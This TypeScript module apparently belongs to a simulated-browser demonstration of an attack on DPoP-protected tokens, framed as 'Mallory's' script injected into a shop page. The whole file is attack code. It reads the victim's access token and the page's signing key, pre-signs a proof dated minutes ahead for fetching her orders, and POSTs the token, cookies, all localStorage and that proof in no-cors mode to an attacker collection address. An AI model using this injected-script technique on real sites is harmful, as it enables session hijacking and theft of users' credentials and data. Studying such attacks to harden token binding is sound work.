/** Mallory's script in the shop's page makes proofs for later: the key stays where it is, what it signed does not. */
import { headerOf, type Page } from '../browser/index.ts'
import { paths } from '../server/index.ts'
import { COLLECT } from './addresses.ts'
import { readOwn } from './forge/ownToken.ts'
import type { Report } from './collect.ts'
import { everythingIn } from './injection.ts'
import { pageKeyInUse, pageKeyOf, storedPageKey } from './pageKey.ts'
import { hashOf, ownProof } from './proof.ts'
import type { ProofKey } from './proofKey.ts'

/** For how much later, in milliseconds: when she has closed the page. */
const LATER = 150_000

/**
 * Takes the token along, and a proof by her key for reading her orders then (RFC 9449 §11.2).
 *
 * @param use makes the page send something of its own
 */
export async function presign(page: Page, use: () => Promise<unknown>): Promise<void> {
  const token = page.localStorage.getItem('access_token')
  if (token === null) return
  const target = { method: 'GET', url: new URL(paths.orders, page.url).href }
  const ath = await hashOf(token)
  const key = await keyFor(page, token, use)
  const proof = async (now: number, nonce?: string) =>
    ownProof(key, {
      ...target,
      ath,
      now,
      jti: page.randomUUID(),
      ...(nonce === undefined ? {} : { nonce }),
    })
  // If the shop wants a nonce in it, it says so to whoever asks; there is none for later.
  const headers = { Authorization: `DPoP ${token}`, DPoP: await proof(page.now()) }
  const nonce = headerOf(await page.fetch(target.url, { headers }), 'DPoP-Nonce')
  const report: Report = {
    origin: page.origin,
    cookies: page.cookie,
    localStorage: everythingIn(page),
    overheard: null,
    proof: { ...target, value: await proof(page.now() + LATER, nonce) },
  }
  await page.fetch(COLLECT, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) })
}

/** The page's own key; one of his where the page has none. */
async function keyFor(page: Page, token: string, use: () => Promise<unknown>): Promise<ProofKey> {
  const own = readOwn(token)
  const isUnbound = own !== null && own.claims.cnf === undefined
  const key = (await storedPageKey(page)) ?? (isUnbound ? null : await pageKeyInUse(page, use))
  return key ?? pageKeyOf(await page.generateKeyPair())
}
